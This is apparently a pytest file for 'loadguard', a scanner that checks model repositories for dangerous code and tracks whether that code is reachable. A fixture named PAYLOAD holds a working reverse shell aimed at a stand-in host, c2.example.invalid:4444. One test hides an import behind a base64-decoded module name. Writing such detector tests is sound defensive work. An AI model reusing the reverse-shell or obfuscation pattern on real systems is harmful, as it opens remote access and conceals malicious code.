"""The engine: how the reach graph becomes ``Finding.reachable``, and which analyzers run."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from loadguard.analyzers import READS_ONLY, load_analyzer
from loadguard.analyzers.base import FileAnalyzer
from loadguard.engine import scan_snapshot
from loadguard.errors import MissingExtra
from loadguard.model import AnalyzerStats, FileEntry, FileKind, Verdict
from loadguard.sources.local import snapshot_from_folder
from pickle_samples import torch_like_state_dict, torch_zip

MakeRepo = Callable[[dict[str, object]], Path]

CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}})
# Harmless if run: the host does not resolve (.invalid).
PAYLOAD = (
    "import socket, subprocess\n\n"
    "def go():\n"
    "    s = socket.create_connection(('c2.example.invalid', 4444))\n"
    "    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n\n"
    "go()\n"
)


def _finding_in(result, path):  # type: ignore[no-untyped-def]
    return [f for f in result.findings if f.location.path == path]


def test_code_behind_a_computed_import_is_unknown_not_unreachable(make_repo: MakeRepo) -> None:
    modeling = (
        "import importlib, base64\n"
        "NAME = base64.b64decode('aGVscGVy').decode()\n"
        "importlib.import_module('.' + NAME, __package__)\n"
        "class XModel:\n    pass\n"
    )
    root = make_repo({"config.json": CONFIG, "modeling_x.py": modeling, "helper.py": PAYLOAD})
    result = scan_snapshot(snapshot_from_folder(root))
    found = _finding_in(result, "helper.py")
    assert found, result.findings
    assert all(f.reachable is None for f in found)
    assert result.verdict in (Verdict.DANGEROUS, Verdict.MALICIOUS_LIKELY)


def test_code_no_path_can_reach_stays_unreachable(make_repo: MakeRepo) -> None:
    modeling = "class XModel:\n    pass\n"
    root = make_repo({"config.json": CONFIG, "modeling_x.py": modeling, "helper.py": PAYLOAD})
    result = scan_snapshot(snapshot_from_folder(root))
    found = _finding_in(result, "helper.py")
    assert found and all(f.reachable is False for f in found)


def test_a_computed_getattr_does_not_make_unimported_files_run(make_repo: MakeRepo) -> None:
    modeling = (
        "import os\n"
        "class XModel:\n"
        "    def act(self, name):\n"
        "        return getattr(self, 'act_' + name)()\n"
        "    def act_relu(self):\n"
        "        return 0\n"
    )
    root = make_repo({"config.json": CONFIG, "modeling_x.py": modeling, "helper.py": PAYLOAD})
    result = scan_snapshot(snapshot_from_folder(root))
    assert result.reach is not None and result.reach.unresolved
    found = _finding_in(result, "helper.py")
    assert found and all(f.reachable is False for f in found)


class _Deep:
    """Test analyzer: fails as a too-deep input does."""

    name = "deep"
    version = "1"

    def wants(self, entry, kind):  # type: ignore[no-untyped-def]
        return entry.path == "config.json"

    def analyze_file(self, ctx, entry, kind):  # type: ignore[no-untyped-def]
        raise RecursionError("maximum recursion depth exceeded")


def test_recursion_error_is_too_deep_not_unreadable(make_repo: MakeRepo, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import loadguard.analyzers as registry

    monkeypatch.setitem(registry.REGISTRY, "deep", f"{__name__}:_Deep")
    root = make_repo({"config.json": CONFIG})
    result = scan_snapshot(snapshot_from_folder(root), analyzers=["deep"])
    assert [(e.path, e.kind) for e in result.errors if e.stage == "deep"] == [
        ("config.json", "too-deep")
    ]


def test_analyzers_that_read_only_python_are_skipped_without_python(make_repo: MakeRepo) -> None:
    root = make_repo({"pytorch_model.bin": torch_zip(torch_like_state_dict())})
    result = scan_snapshot(snapshot_from_folder(root), analyzers=["native", "pickle"])
    native, pickle = result.stats
    assert native == AnalyzerStats("native")  # not loaded: nothing it reads is here
    assert pickle.files == 1
    with_code = make_repo({"hubconf.py": "import os\nos.system('true')\n"})
    result = scan_snapshot(snapshot_from_folder(with_code), analyzers=["native"])
    assert result.stats[0].files == 1 and result.findings


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # bandit's plugin loader
def test_reads_only_matches_what_the_analyzers_want() -> None:
    # The skip is only sound if the analyzer would want no file of any other kind
    # (bandit and semgrep pick their files with python_targets: Python only).
    entry = FileEntry("x", 10)
    for name, kinds in READS_ONLY.items():
        try:
            analyzer = load_analyzer(name)
        except (ImportError, ValueError, MissingExtra):
            continue
        if isinstance(analyzer, FileAnalyzer):
            assert not [k for k in FileKind if k not in kinds and analyzer.wants(entry, k)], name
